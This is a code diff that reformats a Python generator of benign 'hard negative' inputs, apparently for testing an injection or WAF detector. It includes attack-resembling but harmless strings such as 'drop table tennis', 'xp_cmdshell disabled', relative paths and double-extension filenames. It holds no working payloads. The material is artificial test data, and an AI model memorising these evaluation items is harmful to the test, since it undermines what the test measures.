+        '#!/usr/bin/env bash\nset -euo pipefail\nfor f in ./exports/*.csv; do\n  gzip -9 "$f"\ndone\n',
         "import os\nBASE = os.path.dirname(os.path.abspath(__file__))\nwith open(os.path.join(BASE, '..', 'data', 'seed.json')) as fh:\n    seed = json.load(fh)\n",
         "$stmt = $pdo->prepare('SELECT * FROM users WHERE email = :email');\n$stmt->execute(['email' => $email]);\n$user = $stmt->fetch();\n",
         "el.innerHTML = '';\nconst li = document.createElement('li');\nli.textContent = item.name;\nel.appendChild(li);\n",
         "UNION ALL is faster than UNION when duplicates are impossible:\nSELECT id FROM a\nUNION ALL\nSELECT id FROM b;\n",
-        "Runtime rt = Runtime.getRuntime();\nlong used = rt.totalMemory() - rt.freeMemory();\nlog.info(\"heap used: {} MB\", used / 1024 / 1024);\n",
-        "ProcessBuilder pb = new ProcessBuilder(\"pdftotext\", \"-layout\", in.toString(), out.toString());\npb.redirectErrorStream(true);\nint code = pb.start().waitFor();\n",
-        "db.orders.aggregate([\n  { $match: { status: \"paid\" } },\n  { $group: { _id: \"$customerId\", total: { $sum: \"$amount\" } } }\n])\n",
+        'Runtime rt = Runtime.getRuntime();\nlong used = rt.totalMemory() - rt.freeMemory();\nlog.info("heap used: {} MB", used / 1024 / 1024);\n',
+        'ProcessBuilder pb = new ProcessBuilder("pdftotext", "-layout", in.toString(), out.toString());\npb.redirectErrorStream(true);\nint code = pb.start().waitFor();\n',
+        'db.orders.aggregate([\n  { $match: { status: "paid" } },\n  { $group: { _id: "$customerId", total: { $sum: "$amount" } } }\n])\n',
         "template = env.get_template('invoice.html')\nhtml = template.render(customer=customer, lines=lines)\n",
         "ldapsearch -x -H ldaps://ldap.corp.example -b 'dc=corp,dc=example' '(&(objectClass=person)(mail=*@corp.example))' cn mail\n",
-        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<project xmlns=\"http://maven.apache.org/POM/4.0.0\">\n  <modelVersion>4.0.0</modelVersion>\n  <artifactId>billing</artifactId>\n</project>\n",
+        '<?xml version="1.0" encoding="UTF-8"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">\n  <modelVersion>4.0.0</modelVersion>\n  <artifactId>billing</artifactId>\n</project>\n',
         "resp = requests.get('http://localhost:8000/health', timeout=2)\nresp.raise_for_status()\n",
-        "fn main() {\n    let args: Vec<String> = std::env::args().collect();\n    println!(\"{:?}\", args);\n}\n",
-        "eval \"$(ssh-agent -s)\"\nssh-add ~/.ssh/id_ed25519\n",
-        "String sql = \"SELECT name FROM products WHERE id = ?\";\ntry (PreparedStatement ps = conn.prepareStatement(sql)) {\n  ps.setLong(1, id);\n}\n",
+        'fn main() {\n    let args: Vec<String> = std::env::args().collect();\n    println!("{:?}", args);\n}\n',
+        'eval "$(ssh-agent -s)"\nssh-add ~/.ssh/id_ed25519\n',
+        'String sql = "SELECT name FROM products WHERE id = ?";\ntry (PreparedStatement ps = conn.prepareStatement(sql)) {\n  ps.setLong(1, id);\n}\n',
         "logger.info('user %s logged in from %s', user.id, request.remote_addr)\n",
         "const tpl = `Hello ${user.firstName}, you have ${count} new messages`;\n",
-        "grep -rn \"password\" ./src --include=*.py | grep -v test\n",
+        'grep -rn "password" ./src --include=*.py | grep -v test\n',
         "@app.route('/files/<path:filename>')\ndef download(filename):\n    return send_from_directory(app.config['UPLOAD_DIR'], filename, as_attachment=True)\n",
         "Set-Cookie: session=abc123; HttpOnly; Secure; SameSite=Lax\n",
         "import pickle  # only for our own trusted cache files\nwith open(cache_path, 'rb') as fh:\n    cache = pickle.load(fh)\n",
-        "System.Diagnostics.Debug.WriteLine($\"Processed {count} rows in {sw.ElapsedMilliseconds} ms\");\n",
+        'System.Diagnostics.Debug.WriteLine($"Processed {count} rows in {sw.ElapsedMilliseconds} ms");\n',
         "location /api/ {\n    proxy_pass http://127.0.0.1:8080/;\n}\n",
         "document.cookie = 'theme=dark; path=/; max-age=31536000';\n",
         "yaml.safe_load(open('config.yml'))\n",
@@ -2306,35 +4027,113 @@ def gen_code():
 
 def gen_search():
     H, N = [], []
-    prods = ["running shoes", "wireless earbuds", "standing desk", "rain jacket", "espresso machine", "kids bike", "yoga mat", "office chair",
-             "winter boots", "usb-c hub", "air fryer", "hiking backpack", "noise cancelling headphones", "cast iron pan", "led desk lamp"]
-    mods = ["size 10", "under 100", "black", "for women", "waterproof", "sale", "2026", "best rated", "with warranty", "compact"]
+    prods = [
+        "running shoes",
+        "wireless earbuds",
+        "standing desk",
+        "rain jacket",
+        "espresso machine",
+        "kids bike",
+        "yoga mat",
+        "office chair",
+        "winter boots",
+        "usb-c hub",
+        "air fryer",
+        "hiking backpack",
+        "noise cancelling headphones",
+        "cast iron pan",
+        "led desk lamp",
+    ]
+    mods = [
+        "size 10",
+        "under 100",
+        "black",
+        "for women",
+        "waterproof",
+        "sale",
+        "2026",
+        "best rated",
+        "with warranty",
+        "compact",
+    ]
     for pr in prods:
         for m in R.sample(mods, 4):
             N.append("%s %s" % (pr, m) if R.random() < 0.7 else "%s %s" % (m, pr))
-    N += ["how to reset my password", "return policy", "track my order", "gift card balance", "store opening hours berlin",
-          "change delivery address", "cancel subscription", "invoice download", "contact support", "student discount"]
-    H += ["sql injection prevention", "select distinct vs group by", "how to use union in postgres", "bash for loop over files",
-          "<div> center css", "drop shadow css", "what does 1=1 mean in sql", "script tag async vs defer", "alert dialog accessibility",
-          "/etc/hosts file mac", "../ relative path meaning", "c# string.Format examples", "O'Reilly books", "rock & roll t-shirt",
-          "50% off", "<3 emoji meaning", "python eval vs exec", "cat /proc/cpuinfo explained", "AT&T prepaid", "\"exact phrase\" search",
-          "jinja2 {{ }} syntax", "ldap filter (objectClass=*)", "javascript:void(0) link", "xp_cmdshell disabled", "C:\\Windows\\System32 folder size",
-          "wp-config.php location", "onload vs DOMContentLoaded", "price >= 20 and <= 50", "Tom & Jerry DVD", "crlf vs lf line endings git",
-          "SELECT * FROM", "union jack flag", "drop table tennis", "shell script basics", "iframe youtube embed size"]
+    N += [
+        "how to reset my password",
+        "return policy",
+        "track my order",
+        "gift card balance",
+        "store opening hours berlin",
+        "change delivery address",
+        "cancel subscription",
+        "invoice download",
+        "contact support",
+        "student discount",
+    ]
+    H += [
+        "sql injection prevention",
+        "select distinct vs group by",
+        "how to use union in postgres",
+        "bash for loop over files",
+        "<div> center css",
+        "drop shadow css",
+        "what does 1=1 mean in sql",
+        "script tag async vs defer",
+        "alert dialog accessibility",
+        "/etc/hosts file mac",
+        "../ relative path meaning",
+        "c# string.Format examples",
+        "O'Reilly books",
+        "rock & roll t-shirt",
+        "50% off",
+        "<3 emoji meaning",
+        "python eval vs exec",
+        "cat /proc/cpuinfo explained",
+        "AT&T prepaid",
+        '"exact phrase" search',
+        "jinja2 {{ }} syntax",
+        "ldap filter (objectClass=*)",
+        "javascript:void(0) link",
+        "xp_cmdshell disabled",
+        "C:\\Windows\\System32 folder size",
+        "wp-config.php location",
+        "onload vs DOMContentLoaded",
+        "price >= 20 and <= 50",
+        "Tom & Jerry DVD",
+        "crlf vs lf line endings git",
+        "SELECT * FROM",
+        "union jack flag",
+        "drop table tennis",
+        "shell script basics",
+        "iframe youtube embed size",
+    ]
     return H, N
 
 
 def gen_graphql():
     H, N = [], []
-    ents = [("product", "id name price { amount currency } inStock"), ("order", "id status total createdAt"),
-            ("user", "id name email avatarUrl"), ("ticket", "id subject priority assignee { name }"),
-            ("article", "id title slug publishedAt author { name }"), ("invoice", "id number dueDate amountDue"),
-            ("repository", "id name stargazerCount defaultBranchRef { name }"), ("event", "id title startsAt venue { city }")]
+    ents = [
+        ("product", "id name price { amount currency } inStock"),
+        ("order", "id status total createdAt"),
+        ("user", "id name email avatarUrl"),
+        ("ticket", "id subject priority assignee { name }"),
+        ("article", "id title slug publishedAt author { name }"),
+        ("invoice", "id number dueDate amountDue"),
+        ("repository", "id name stargazerCount defaultBranchRef { name }"),
+        ("event", "id title startsAt venue { city }"),
+    ]
     for ent, fields in ents:
         T = ent[0].upper() + ent[1:]
         N.append("query Get%s($id: ID!) {\n  %s(id: $id) {\n    %s\n  }\n}" % (T, ent, fields))
-        N.append("query List%ss($first: Int = 20, $after: String) {\n  %ss(first: $first, after: $after) {\n    edges { node { %s } }\n    pageInfo { hasNextPage endCursor }\n  }\n}" % (T, ent, fields))
-        N.append("mutation Update%s($input: Update%sInput!) {\n  update%s(input: $input) {\n    %s {\n      id\n    }\n    errors { field message }\n  }\n}" % (T, T, T, ent))
+        N.append(
+            "query List%ss($first: Int = 20, $after: String) {\n  %ss(first: $first, after: $after) {\n    edges { node { %s } }\n    pageInfo { hasNextPage endCursor }\n  }\n}"
+            % (T, ent, fields)
+        )
+        N.append(
+            "mutation Update%s($input: Update%sInput!) {\n  update%s(input: $input) {\n    %s {\n      id\n    }\n    errors { field message }\n  }\n}"
+            % (T, T, T, ent)
+        )
         N.append("query %sCount { %sCount }" % (T, ent))
         N.append("subscription On%sChanged($id: ID!) {\n  %sChanged(id: $id) { id updatedAt }\n}" % (T, ent))
         N.append("mutation Delete%s($id: ID!) { delete%s(id: $id) { success } }" % (T, T))
@@ -2342,122 +4141,335 @@ def gen_graphql():
         "query IntrospectionQuery {\n  __schema {\n    queryType { name }\n    mutationType { name }\n    types { name kind }\n  }\n}",
         "query Search($q: String!) {\n  search(query: $q) {\n    __typename\n    ... on Product { id name }\n    ... on Article { id title }\n  }\n}",
         "query Feed($withComments: Boolean!) {\n  feed { id text comments @include(if: $withComments) { id body } }\n}",
-        "query { products(where: { name: { _ilike: \"%boots%\" } }, order_by: { price: asc }) { id name price } }",
+        'query { products(where: { name: { _ilike: "%boots%" } }, order_by: { price: asc }) { id name price } }',
         "query Users($email: String!) { users(where: { email: { _eq: $email } }) { id } }",
-        "mutation { addComment(postId: 12, body: \"Great post! I'd use <code>SELECT 1</code> for the health check.\") { id } }",
+        'mutation { addComment(postId: 12, body: "Great post! I\'d use <code>SELECT 1</code> for the health check.") { id } }',
         "fragment UserParts on User { id name email }\nquery Me { me { ...UserParts teams { id name } } }",
         "query Orders($filter: OrderFilter) { orders(filter: $filter, sort: [{field: CREATED_AT, direction: DESC}]) { totalCount } }",
         "mutation Login($email: String!, $password: String!) { login(email: $email, password: $password) { token expiresAt } }",
-        "query { node(id: \"UHJvZHVjdDoxMjM=\") { ... on Product { id name } } }",
+        'query { node(id: "UHJvZHVjdDoxMjM=") { ... on Product { id name } } }',
         "query Files($path: String!) { files(path: $path) { name size modifiedAt } }",
         "mutation Upload($file: Upload!) { uploadAvatar(file: $file) { url } }",
-        "query { __type(name: \"Order\") { fields { name type { name } } } }",
-        "mutation SaveTemplate($body: String!) { saveTemplate(name: \"welcome\", body: $body) { id } }",
-        "query Logs { logs(level: ERROR, contains: \"NullPointerException\", last: 50) { ts message } }",
-        "query Report($sql: String!) { savedReport(name: \"weekly\") { id } preview(sql: $sql) { rows } }",
+        'query { __type(name: "Order") { fields { name type { name } } } }',
+        'mutation SaveTemplate($body: String!) { saveTemplate(name: "welcome", body: $body) { id } }',
+        'query Logs { logs(level: ERROR, contains: "NullPointerException", last: 50) { ts message } }',
+        'query Report($sql: String!) { savedReport(name: "weekly") { id } preview(sql: $sql) { rows } }',
         "query($url: URL!) { linkPreview(url: $url) { title image } }",
         "mutation { updateProfile(bio: \"Backend dev. Loves C++ & Rust; hates 'undefined is not a function'.\") { id } }",
-        "query Search($q: String!) { search(q: $q, filters: { tags: [\"sql\", \"security\"] }) { id title } }",
+        'query Search($q: String!) { search(q: $q, filters: { tags: ["sql", "security"] }) { id title } }',
         "query Members($group: String!) { directory(group: $group) { dn cn mail } }",
         "query { shop { name primaryDomain { url } } }",
         "mutation Run($id: ID!) { runWorkflow(id: $id, dryRun: true) { status logs } }",
         "query ($cursor: String) { notifications(after: $cursor) { edges { node { id message } } } }",
         "query Health { __typename }",
-        "query Docs($term: String!) { docs(search: $term) { title url } } # e.g. term = \"union select\"",
+        'query Docs($term: String!) { docs(search: $term) { title url } } # e.g. term = "union select"',
     ]
     return H, N
 
 
 FILENAMES = [
-    "Q3 report (final) v2.pdf", "r\u00e9sum\u00e9_2026.pdf", "invoice#4471.pdf", "data & notes.csv", "O'Brien contract.pdf",
-    "Screenshot 2026-12-07 at 23.14.05.png", "IMG_20261207_181122.jpg", "budget_2027 [draft].xlsx", "Meeting notes - 12.11.txt",
-    "~$quarterly.docx", "\u5831\u544a\u66f8.pdf", "SELECT_results_export.csv", "backup-2026-12-07T23_15_00Z.tar.gz",
-    "team photo 100%.jpg", "plan;v3.txt", "a+b=c.md", "%20 spacing test.txt", "\u0444\u043e\u0442\u043e \u043e\u0442\u043f\u0443\u0441\u043a.jpeg",
-    "Ma\u00f1ana - agenda.docx", "null.txt", "con.txt.bak", "index.html", "deploy.sh", "config.yaml", "schema.sql", "web.config.sample",
-    "test (1) (2) (3).pdf", "file with     many spaces.txt", "emoji \U0001f389 party.png", "UPPERCASE.PDF", ".gitignore", "archive.2026.12.zip",
+    "Q3 report (final) v2.pdf",
+    "r\u00e9sum\u00e9_2026.pdf",
+    "invoice#4471.pdf",
+    "data & notes.csv",
+    "O'Brien contract.pdf",
+    "Screenshot 2026-12-07 at 23.14.05.png",
+    "IMG_20261207_181122.jpg",
+    "budget_2027 [draft].xlsx",
+    "Meeting notes - 12.11.txt",
+    "~$quarterly.docx",
+    "\u5831\u544a\u66f8.pdf",
+    "SELECT_results_export.csv",
+    "backup-2026-12-07T23_15_00Z.tar.gz",
+    "team photo 100%.jpg",
+    "plan;v3.txt",
+    "a+b=c.md",
+    "%20 spacing test.txt",
+    "\u0444\u043e\u0442\u043e \u043e\u0442\u043f\u0443\u0441\u043a.jpeg",
+    "Ma\u00f1ana - agenda.docx",
+    "null.txt",
+    "con.txt.bak",
+    "index.html",
+    "deploy.sh",
+    "config.yaml",
+    "schema.sql",
+    "web.config.sample",
+    "test (1) (2) (3).pdf",
+    "file with     many spaces.txt",
+    "emoji \U0001f389 party.png",
+    "UPPERCASE.PDF",
+    ".gitignore",
+    "archive.2026.12.zip",
 ]
 
 
 def gen_files():
     H, N = [], []
-    hard_names = {"invoice#4471.pdf", "data & notes.csv", "O'Brien contract.pdf", "~$quarterly.docx", "SELECT_results_export.csv", "team photo 100%.jpg",
-                  "plan;v3.txt", "a+b=c.md", "%20 spacing test.txt", "con.txt.bak", "index.html", "deploy.sh", "schema.sql", "web.config.sample",
-                  "null.txt", ".gitignore"}
+    hard_names = {
+        "invoice#4471.pdf",
+        "data & notes.csv",
+        "O'Brien contract.pdf",
+        "~$quarterly.docx",
+        "SELECT_results_export.csv",
+        "team photo 100%.jpg",
+        "plan;v3.txt",
+        "a+b=c.md",
+        "%20 spacing test.txt",
+        "con.txt.bak",
+        "index.html",
+        "deploy.sh",
+        "schema.sql",
+        "web.config.sample",
+        "null.txt",
+        ".gitignore",
+    }
     for fn in FILENAMES:
         ext = fn.rsplit(".", 1)[-1].lower()
-        ct = {"pdf": "application/pdf", "csv": "text/csv", "txt": "text/plain", "md": "text/markdown", "sh": "application/x-sh",
-              "yaml": "application/x-yaml", "sql": "application/sql", "html": "text/html"}.get(ext, "text/plain")
-        content = {"pdf": "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
-                   "csv": "id,name,amount\n1,Widget,9.99\n2,Gadget,19.50\n", "sh": "#!/bin/sh\nset -e\nnpm ci\nnpm run build\n",
-                   "sql": "CREATE TABLE notes (id serial PRIMARY KEY, body text NOT NULL);\n",
-                   "html": "<!doctype html>\n<html><head><title>Landing</title></head><body><h1>Hello</h1></body></html>\n",
-                   "yaml": "name: demo\nreplicas: 2\n"}.get(ext, "Plain text attachment.\n")
-        spec = B(fn, "multipart", mp="filename", field=R.choice(["file", "attachment", "upload", "document"]), fctype=ct, fcontent=content,
-                 ep=R.choice(["/api/v1/files", "/upload", "/api/attachments", "/documents/new", "/api/drive/upload"]))
+        ct = {
+            "pdf": "application/pdf",
+            "csv": "text/csv",
+            "txt": "text/plain",
+            "md": "text/markdown",
+            "sh": "application/x-sh",
+            "yaml": "application/x-yaml",
+            "sql": "application/sql",
+            "html": "text/html",
+        }.get(ext, "text/plain")
+        content = {
+            "pdf": "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
+            "csv": "id,name,amount\n1,Widget,9.99\n2,Gadget,19.50\n",
+            "sh": "#!/bin/sh\nset -e\nnpm ci\nnpm run build\n",
+            "sql": "CREATE TABLE notes (id serial PRIMARY KEY, body text NOT NULL);\n",
+            "html": "<!doctype html>\n<html><head><title>Landing</title></head><body><h1>Hello</h1></body></html>\n",
+            "yaml": "name: demo\nreplicas: 2\n",
+        }.get(ext, "Plain text attachment.\n")
+        spec = B(
+            fn,
+            "multipart",
+            mp="filename",
+            field=R.choice(["file", "attachment", "upload", "document"]),
+            fctype=ct,
+            fcontent=content,
+            ep=R.choice(["/api/v1/files", "/upload", "/api/attachments", "/documents/new", "/api/drive/upload"]),
+        )
         (H if fn in hard_names else N).append(spec)
     for i in range(14):
         d = "2026-%02d-%02d" % (R.randint(1, 12), R.randint(1, 28))
-        fn = R.choice(["Invoice %s.pdf", "Payslip %s.pdf", "Statement_%s.pdf", "Boarding pass %s.pdf", "Lease agreement %s.pdf", "Receipt-%s.pdf"]) % d
+        fn = (
+            R.choice(
+                [
+                    "Invoice %s.pdf",
+                    "Payslip %s.pdf",
+                    "Statement_%s.pdf",
+                    "Boarding pass %s.pdf",
+                    "Lease agreement %s.pdf",
+                    "Receipt-%s.pdf",
+                ]
+            )
+            % d
+        )
         N.append(B(fn, "path", pre="/files/download/", ep="/files/download"))
-    csvs = ["date,description,amount\n2026-11-02,Coffee beans,14.90\n2026-11-03,Train ticket,32.00\n",
-            "sku,qty,location\nA-1001,12,R1-S3\nA-1002,0,R1-S4\nB-2001,7,R2-S1\n",
-            "email,first_name,last_name\nana@example.com,Ana,Silva\nli.wei@example.org,Wei,Li\n",
-            "name,role,start\n\"Doe, Jane\",Engineer,2026-01-15\n\"O'Neil, Sam\",Designer,2026-02-01\n"]
+    csvs = [
+        "date,description,amount\n2026-11-02,Coffee beans,14.90\n2026-11-03,Train ticket,32.00\n",
+        "sku,qty,location\nA-1001,12,R1-S3\nA-1002,0,R1-S4\nB-2001,7,R2-S1\n",
+        "email,first_name,last_name\nana@example.com,Ana,Silva\nli.wei@example.org,Wei,Li\n",
+        'name,role,start\n"Doe, Jane",Engineer,2026-01-15\n"O\'Neil, Sam",Designer,2026-02-01\n',
+    ]
     for c in csvs:
-        N.append(B(c, "multipart", mp="file", fname="import.csv", fctype="text/csv", field="file", ep="/api/contacts/import"))
-    N.append(B("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Cal//EN\r\nBEGIN:VEVENT\r\nUID:9f1c@example.com\r\nDTSTART:20261215T090000Z\r\n"
-               "DTEND:20261215T100000Z\r\nSUMMARY:Sprint review\r\nLOCATION:Room 4.12\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", "multipart", mp="file",
-               fname="review.ics", fctype="text/calendar", field="file", ep="/api/calendar/import"))
-    N.append(B("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana Silva\r\nORG:Northwind Traders\r\nTEL;TYPE=work:+31 20 555 0100\r\nEMAIL:ana.silva@example.com\r\nEND:VCARD\r\n",
-               "multipart", mp="file", fname="ana.vcf", fctype="text/vcard", field="card", ep="/api/contacts/import"))
-    H.append(B('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#1565c0"/></svg>\n',
-               "multipart", mp="file", fname="logo.svg", fctype="image/svg+xml", field="logo", ep="/settings/branding"))
-    H.append(B('<?xml version="1.0" encoding="UTF-8"?>\n<gpx version="1.1" creator="Strava" xmlns="http://www.topografix.com/GPX/1/1">\n'
-               '  <trk><name>Morning run</name><trkseg><trkpt lat="52.3702" lon="4.8952"><ele>2.1</ele></trkpt></trkseg></trk>\n</gpx>\n',
-               "multipart", mp="file", fname="morning_run.gpx", fctype="application/gpx+xml", field="activity", ep="/api/activities/upload"))
-    H.append(B("#!/bin/bash\n# nightly cleanup\nfind /var/tmp/app -type f -mtime +7 -delete\nsystemctl restart app-worker\n", "multipart", mp="file",
-               fname="cleanup.sh", fctype="application/x-sh", field="script", ep="/api/repos/ops/files"))
-    H.append(B("{\n  \"name\": \"web\",\n  \"scripts\": {\n    \"build\": \"vite build\",\n    \"test\": \"vitest run\"\n  }\n}\n", "multipart", mp="file",
-               fname="package.json", fctype="application/json", field="file", ep="/api/repos/web/files"))
-    H.append(B("../shared/assets/logo.png", "json", ep="/api/projects/12/settings", doc={"branding": {"logoPath": MARK, "primaryColor": "#0a66c2"}}))
+        N.append(
+            B(c, "multipart", mp="file", fname="import.csv", fctype="text/csv", field="file", ep="/api/contacts/import")
+        )
+    N.append(
+        B(
+            "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Cal//EN\r\nBEGIN:VEVENT\r\nUID:9f1c@example.com\r\nDTSTART:20261215T090000Z\r\n"
+            "DTEND:20261215T100000Z\r\nSUMMARY:Sprint review\r\nLOCATION:Room 4.12\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
+            "multipart",
+            mp="file",
+            fname="review.ics",
+            fctype="text/calendar",
+            field="file",
+            ep="/api/calendar/import",
+        )
+    )
+    N.append(
+        B(
+            "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana Silva\r\nORG:Northwind Traders\r\nTEL;TYPE=work:+31 20 555 0100\r\nEMAIL:ana.silva@example.com\r\nEND:VCARD\r\n",
+            "multipart",
+            mp="file",
+            fname="ana.vcf",
+            fctype="text/vcard",
+            field="card",
+            ep="/api/contacts/import",
+        )
+    )
+    H.append(
+        B(
+            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#1565c0"/></svg>\n',
+            "multipart",
+            mp="file",
+            fname="logo.svg",
+            fctype="image/svg+xml",
+            field="logo",
+            ep="/settings/branding",
+        )
+    )
+    H.append(
+        B(
+            '<?xml version="1.0" encoding="UTF-8"?>\n<gpx version="1.1" creator="Strava" xmlns="http://www.topografix.com/GPX/1/1">\n'
+            '  <trk><name>Morning run</name><trkseg><trkpt lat="52.3702" lon="4.8952"><ele>2.1</ele></trkpt></trkseg></trk>\n</gpx>\n',
+            "multipart",
+            mp="file",
+            fname="morning_run.gpx",
+            fctype="application/gpx+xml",
+            field="activity",
+            ep="/api/activities/upload",
+        )
+    )
+    H.append(
+        B(
+            "#!/bin/bash\n# nightly cleanup\nfind /var/tmp/app -type f -mtime +7 -delete\nsystemctl restart app-worker\n",
+            "multipart",
+            mp="file",
+            fname="cleanup.sh",
+            fctype="application/x-sh",
+            field="script",
+            ep="/api/repos/ops/files",
+        )
+    )
+    H.append(
+        B(
+            '{\n  "name": "web",\n  "scripts": {\n    "build": "vite build",\n    "test": "vitest run"\n  }\n}\n',
+            "multipart",
+            mp="file",
+            fname="package.json",
+            fctype="application/json",
+            field="file",
+            ep="/api/repos/web/files",
+        )
+    )
+    H.append(
+        B(
+            "../shared/assets/logo.png",
+            "json",
+            ep="/api/projects/12/settings",
+            doc={"branding": {"logoPath": MARK, "primaryColor": "#0a66c2"}},
+        )
+    )
     H.append(B("reports/2026/Q4/summary (copy).pdf", "path", pre="/api/v1/files/", ep="/api/v1/files"))
-    H.append(B("invoice_2026-12.pdf.exe.txt", "multipart", mp="filename", field="file", fctype="text/plain", fcontent="renamed by mail filter\n",
-               ep="/api/attachments"))
-    H.append(B("<draft> notes & ideas.txt", "multipart", mp="filename", field="file", fctype="text/plain", fcontent="ideas\n", ep="/api/drive/upload"))
-    H.append(B("C:\\fakepath\\holiday-rota.xlsx", "form", ep="/hr/upload-legacy", fields=[("filepath", MARK), ("team", "support")]))
+    H.append(
+        B(
+            "invoice_2026-12.pdf.exe.txt",
+            "multipart",
+            mp="filename",
+            field="file",
+            fctype="text/plain",
+            fcontent="renamed by mail filter\n",
+            ep="/api/attachments",
+        )
+    )
+    H.append(
+        B(
+            "<draft> notes & ideas.txt",
+            "multipart",
+            mp="filename",
+            field="file",
+            fctype="text/plain",
+            fcontent="ideas\n",
+            ep="/api/drive/upload",
+        )
+    )
+    H.append(
+        B(
+            "C:\\fakepath\\holiday-rota.xlsx",
+            "form",
+            ep="/hr/upload-legacy",
+            fields=[("filepath", MARK), ("team", "support")],
+        )
+    )
     for i in range(8):
-        fn = "%s_%s.%s" % (R.choice(["scan", "photo", "doc", "export", "notes"]), rand_alnum(6, string.ascii_lowercase + string.digits),
-                           R.choice(["txt", "csv", "md"]))
-        N.append(B(fn, "multipart", mp="filename", field="file", fctype="text/plain", fcontent="sample\n", ep="/upload"))
+        fn = "%s_%s.%s" % (
+            R.choice(["scan", "photo", "doc", "export", "notes"]),
+            rand_alnum(6, string.ascii_lowercase + string.digits),
+            R.choice(["txt", "csv", "md"]),
+        )
+        N.append(
+            B(fn, "multipart", mp="filename", field="file", fctype="text/plain", fcontent="sample\n", ep="/upload")
+        )
     return H, N
 
 
 def gen_urls():
     H, N = [], []
-    for pth in ["/account/settings?tab=billing", "/dashboard", "/orders/1042", "/projects/42/board?view=kanban", "/checkout/shipping",
-                "/courses/intro-to-statistics/lesson/3", "/inbox?folder=archive", "/reports/weekly?range=last_7_days"]:
+    for pth in [
+        "/account/settings?tab=billing",
+        "/dashboard",
+        "/orders/1042",
+        "/projects/42/board?view=kanban",
+        "/checkout/shipping",
+        "/courses/intro-to-statistics/lesson/3",
+        "/inbox?folder=archive",
+        "/reports/weekly?range=last_7_days",
+    ]:
         N.append(B(pth, "query", param=R.choice(["next", "return_to", "redirect", "continue"]), ep="/login"))
-    for u in ["https://app.example.com/dashboard", "https://hooks.slack.com/services/T0000000/B0000000/XXXXXXXXXXXXXXXXXXXXXXXX",
-              "https://www.example.org/blog/2026/12/winter-sale?utm_source=newsletter&utm_medium=email&utm_campaign=dec26",
-              "https://calendar.example.com/invite?event=8841&tz=Europe%2FAmsterdam", "https://github.com/example-org/example-repo/pull/1182",
-              "https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789/edit#gid=0",
-              "https://maps.google.com/?q=Dam+Square,+Amsterdam", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
-              "https://example.com/search?q=a%26b&lang=en", "https://shop.example.com/p/espresso-machine-x200?variant=black",
-              "https://cdn.example.net/assets/app.3f9c1b.js", "https://en.wikipedia.org/wiki/Percent-encoding",
-              "https://example.atlassian.net/browse/OPS-1234", "https://zoom.example.com/j/81234567890?pwd=AbCdEf123",
-              "https://forms.example.com/r/feedback?ref=footer", "https://www.linkedin.com/in/jane-doe-123abc/",
-              "https://bucket.s3.eu-west-1.amazonaws.com/reports/q3.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=3600&X-Amz-SignedHeaders=host",
-              "mailto:support@example.com?subject=Order%201042", "tel:+4930123456", "myapp://open/order/1042",
-              "https://example.com/%E6%97%A5%E6%9C%AC/guide", "https://status.example.net/incidents/2026-12-07"]:
+    for u in [
+        "https://app.example.com/dashboard",
+        "https://hooks.slack.com/services/T0000000/B0000000/XXXXXXXXXXXXXXXXXXXXXXXX",
+        "https://www.example.org/blog/2026/12/winter-sale?utm_source=newsletter&utm_medium=email&utm_campaign=dec26",
+        "https://calendar.example.com/invite?event=8841&tz=Europe%2FAmsterdam",
+        "https://github.com/example-org/example-repo/pull/1182",
+        "https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789/edit#gid=0",
+        "https://maps.google.com/?q=Dam+Square,+Amsterdam",
+        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
+        "https://example.com/search?q=a%26b&lang=en",
+        "https://shop.example.com/p/espresso-machine-x200?variant=black",
+        "https://cdn.example.net/assets/app.3f9c1b.js",
+        "https://en.wikipedia.org/wiki/Percent-encoding",
+        "https://example.atlassian.net/browse/OPS-1234",
+        "https://zoom.example.com/j/81234567890?pwd=AbCdEf123",
+        "https://forms.example.com/r/feedback?ref=footer",
+        "https://www.linkedin.com/in/jane-doe-123abc/",
+        "https://bucket.s3.eu-west-1.amazonaws.com/reports/q3.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=3600&X-Amz-SignedHeaders=host",
+        "mailto:support@example.com?subject=Order%201042",
+        "tel:+4930123456",
+        "myapp://open/order/1042",
+        "https://example.com/%E6%97%A5%E6%9C%AC/guide",
+        "https://status.example.net/incidents/2026-12-07",
+    ]:
         pl = R.choice(["json", "json", "form", "query"])
         if pl == "json":
-            N.append(B(u, "json", param=R.choice(["url", "website", "link", "webhookUrl", "homepage"]), ep=R.choice(["/api/v1/webhooks", "/api/profile", "/api/bookmarks"])))
+            N.append(
+                B(
+                    u,
+                    "json",
+                    param=R.choice(["url", "website", "link", "webhookUrl", "homepage"]),
+                    ep=R.choice(["/api/v1/webhooks", "/api/profile", "/api/bookmarks"]),
+                )
+            )
         elif pl == "form":
-            N.append(B(u, "form", param=R.choice(["website", "url", "link"]), ep=R.choice(["/profile/update", "/bookmarks/new", "/settings/integrations"])))
+            N.append(
+                B(
+                    u,
+                    "form",
+                    param=R.choice(["website", "url", "link"]),
+                    ep=R.choice(["/profile/update", "/bookmarks/new", "/settings/integrations"]),
+                )
+            )
         else:
